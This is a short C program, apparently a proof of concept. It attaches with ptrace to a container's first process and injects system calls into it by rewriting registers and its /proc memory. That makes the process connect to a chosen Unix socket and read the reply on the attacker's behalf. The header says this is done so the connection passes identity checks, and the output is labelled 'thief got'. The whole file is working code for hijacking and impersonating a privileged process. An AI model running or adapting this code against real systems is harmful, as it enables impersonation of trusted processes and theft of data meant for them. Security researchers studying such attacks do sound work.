/* Makes the container's first process, which sleeps in pause(2), call what we want by ptrace(2).
 * Usage: puppet connect PATH   it connects, and we leave before anybody judges it
 *        puppet read           it reads the answer, for us
 *        puppet both PATH      both, traced all the while */
#include "peer.h"
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

enum { TARGET = 1, KEPT = 9 };

static struct user_regs_struct before;
static int memory;

/* It was stopped right after a `syscall` instruction, two bytes long: that one runs again. */
static long inject(long number, unsigned long a, unsigned long b, unsigned long c) {
    struct user_regs_struct registers = before;
    registers.rax = (unsigned long)number;
    registers.orig_rax = (unsigned long)-1; /* the kernel shall not restart pause() now */
    registers.rip = before.rip - 2;
    registers.rdi = a;
    registers.rsi = b;
    registers.rdx = c;
    ptrace(PTRACE_SETREGS, TARGET, NULL, &registers);
    ptrace(PTRACE_SINGLESTEP, TARGET, NULL, NULL);
    waitpid(TARGET, NULL, __WALL);
    ptrace(PTRACE_GETREGS, TARGET, NULL, &registers);
    if ((long)registers.rax < 0)
        errx(1, "system call %ld: %s", number, strerror((int)-(long)registers.rax));
    return (long)registers.rax;
}

static void make_it_connect(const char *path, unsigned long scratch) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    if (pwrite(memory, &address, sizeof address, (off_t)scratch) != sizeof address)
        err(1, "its memory");
    long s = inject(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
    inject(SYS_connect, (unsigned long)s, scratch, sizeof address);
    inject(SYS_dup2, (unsigned long)s, KEPT, 0);
    inject(SYS_close, (unsigned long)s, 0, 0);
}

static void make_it_read(unsigned long scratch) {
    char text[4096] = "";
    long n = inject(SYS_read, KEPT, scratch, sizeof text - 1);
    if (pread(memory, text, (size_t)n, (off_t)scratch) != n)
        err(1, "its memory");
    printf("thief got: %s\n", text);
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (ptrace(PTRACE_ATTACH, TARGET, NULL, NULL) < 0)
        err(1, "ptrace");
    waitpid(TARGET, NULL, __WALL);
    ptrace(PTRACE_GETREGS, TARGET, NULL, &before);
    memory = open("/proc/1/mem", O_RDWR);
    unsigned long scratch = (before.rsp & ~15UL) - 16384; /* below the red zone */
    if (argc > 2)
        make_it_connect(argv[2], scratch);
    if (strcmp(what, "connect") != 0)
        make_it_read(scratch);
    ptrace(PTRACE_SETREGS, TARGET, NULL, &before);
    ptrace(PTRACE_DETACH, TARGET, NULL, NULL);
}
